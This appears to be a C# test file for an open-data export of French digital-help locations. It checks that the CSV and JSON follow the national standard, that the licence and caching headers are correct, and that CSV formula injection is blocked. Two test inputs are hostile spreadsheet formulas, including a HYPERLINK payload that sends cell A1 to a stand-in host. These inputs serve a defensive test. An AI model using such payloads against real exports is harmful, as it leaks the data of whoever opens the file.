using System.Net;
using System.Text.Json;
using System.Text.RegularExpressions;
using ConseillerNumerique.Organization.Places;
using ConseillerNumerique.TestKit;
using Microsoft.EntityFrameworkCore;

namespace ConseillerNumerique.Organization.Tests.Places;

/// <summary>The files against the fields and lists of the national standard, written down once more by hand.</summary>
internal sealed class OpenDataTests
{
    private TestHost _host;
    private HttpClient _stranger;

    [OneTimeSetUp]
    public async Task Prepare()
    {
        _host = new();
        var employer = await _host.AddEmployerAsync("Ville de Crest");
        await _host.AddPlaceAsync(employer, Full());
        await _host.AddPublishedPlaceAsync(employer, "Presque rien, \"ou\" peu", "26362");
        await _host.AddPublishedPlaceAsync(employer, "=1+1");
        _stranger = _host.CreateBrowser();
    }

    [OneTimeTearDown]
    public void Close()
    {
        _stranger.Dispose();
        _host.Dispose();
    }

    [Test]
    public async Task The_csv_has_the_fields_of_the_standard_in_their_order() =>
        Assert.That((await LinesAsync())[0], Is.EqualTo(Standard.Fields));

    [Test]
    public async Task Each_value_is_one_that_the_standard_knows()
    {
        foreach (var line in (await LinesAsync()).Skip(1))
        {
            Assert.That(line, Has.Length.EqualTo(Standard.Fields.Length));
            foreach (var (field, value) in Standard.Fields.Zip(line))
            {
                Assert.That(Standard.WhyWrong(field, value), Is.Null, $"{field}: {value}");
            }
        }
    }

    [Test]
    public async Task Every_value_of_each_list_can_be_published()
    {
        var full = (await LinesAsync())[1];

        foreach (var (field, values) in Standard.Lists)
        {
            Assert.That(full[Array.IndexOf(Standard.Fields, field)].Split('|'), Is.EquivalentTo(values), field);
        }
    }

    [Test]
    public async Task The_json_says_the_same_and_leaves_out_what_is_not_known()
    {
        using var json = JsonDocument.Parse(await _stranger.GetStringAsync("/donnees/lieux.json"));
        var lines = await LinesAsync();

        Assert.That(json.RootElement.GetArrayLength(), Is.EqualTo(lines.Count - 1));
        for (var place = 1; place < lines.Count; place++)
        {
            var said = json.RootElement[place - 1].EnumerateObject().ToDictionary(
                field => field.Name,
                field => field.Value.ValueKind switch
                {
                    JsonValueKind.Array => string.Join('|', field.Value.EnumerateArray().Select(value => value.GetString())),
                    JsonValueKind.Number => field.Value.GetRawText(),
                    _ => field.Value.GetString()!, // text, as the other two are not
                });
            var known = Standard.Fields.Zip(lines[place]).Where(cell => cell.Second.Length > 0).ToDictionary(cell => cell.First, cell => cell.Second.TrimStart('\''));
            Assert.That(said, Is.EquivalentTo(known));
            Assert.That(json.RootElement[place - 1].GetProperty("services").ValueKind, Is.EqualTo(JsonValueKind.Array));
        }
    }

    [Test]
    public async Task A_name_is_never_a_formula_and_quotes_are_doubled()
    {
        var csv = await _stranger.GetStringAsync("/donnees/lieux.csv");

        Assert.That(csv, Does.Contain(",'=1+1,").And.Contain("\"Presque rien, \"\"ou\"\" peu\""));
    }

    [Test]
    public async Task An_e_mail_address_kept_from_before_is_never_a_formula_either()
    {
        var place = await _host.AddPublishedPlaceAsync(await _host.AddEmployerAsync("CCAS"), "Bureau");
        await _host.InOrganizationAsync(db => db.Places.Where(one => one.Id == place)
            .ExecuteUpdateAsync(change => change.SetProperty(one => one.Emails, "=HYPERLINK(\"http://x/\"&A1)&\"a@b\"")));

        var csv = await _stranger.GetStringAsync("/donnees/lieux.csv");

        Assert.That(csv, Does.Contain(",\"'=HYPERLINK(\"\"http://x/\"\"&A1)&\"\"a@b\"\"\","));
    }

    [Test]
    public async Task The_accessibility_sheet_is_under_the_host_of_the_standard() =>
        Assert.That(
            (await LinesAsync())[1][Array.IndexOf(Standard.Fields, "fiche_acces_libre")],
            Is.EqualTo("https://acceslibre.beta.gouv.fr/app/26-crest/a/bibliotheque/erp/mediatheque/"));

    [Test]
    public async Task Says_its_licence_and_answers_with_nothing_to_one_who_has_it()
    {
        using var first = await _stranger.GetAsync(new Uri("/donnees/lieux.csv", UriKind.Relative));
        using var again = await AskAsync(first.Headers.ETag!.ToString());
        await _host.AddPublishedPlaceAsync(await _host.AddEmployerAsync("CCAS"), "Nouveau");
        using var changed = await AskAsync(first.Headers.ETag!.ToString());

        Assert.That(first.Headers.GetValues("Link"), Has.Some.Contains("licence-ouverte").And.Some.Contains("rel=\"license\""));
        Assert.That(first.Headers.CacheControl?.ToString(), Is.EqualTo("public, max-age=3600"));
        Assert.That(again.StatusCode, Is.EqualTo(HttpStatusCode.NotModified));
        Assert.That(await again.Content.ReadAsStringAsync(), Is.Empty);
        Assert.That(changed.StatusCode, Is.EqualTo(HttpStatusCode.OK));
    }

    private async Task<HttpResponseMessage> AskAsync(string tag)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/donnees/lieux.csv");
        request.Headers.TryAddWithoutValidation("If-None-Match", tag);
        return await _stranger.SendAsync(request);
    }

    private async Task<List<string[]>> LinesAsync()
    {
        var csv = await _stranger.GetStringAsync("/donnees/lieux.csv");
        return [.. csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(Cells)];
    }

    private static string[] Cells(string line) =>
        [.. Regex.Matches(line, "(?:^|,)(?:\"((?:[^\"]|\"\")*)\"|([^,\"]*))").Select(match => match.Groups[1].Success ? match.Groups[1].Value.Replace("\"\"", "\"") : match.Groups[2].Value)];

    private static PlaceDescription Full() => TestPlaces.Described("Médiathèque") with
    {
        AddressComplement = "Au fond de la cour",
        Siret = "73282932000074",
        Typologies = new(int.MaxValue),
        Services = new((1 << 9) - 1),
        Publics = new((1 << 5) - 1),
        SpecialCare = new((1 << 7) - 1),
        Fees = new((1 << 3) - 1),
        Programmes = new((1 << 11) - 1),
        Labels = new((1 << 10) - 1),
        OtherLabels = "Label et la bête",
        Access = new((1 << 6) - 1),
        Guidance = new((1 << 4) - 1),
        OpeningHours = "Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00",
        Summary = "Postes en libre accès",
        Detail = "Une phrase, puis une autre.",
        Phone = "+33475250000",
        Emails = "accueil@exemple.fr|direction@exemple.fr",
        WebSite = "https://exemple.fr/",
        AccessibilitySheet = "https://acceslibre.gouv.fr/app/26-crest/a/bibliotheque/erp/mediatheque/",
        AppointmentSite = "https://rdv.exemple.fr/",
        Latitude = 44.728123,
        Longitude = 5.02,
        IsItinerant = true,
    };
}
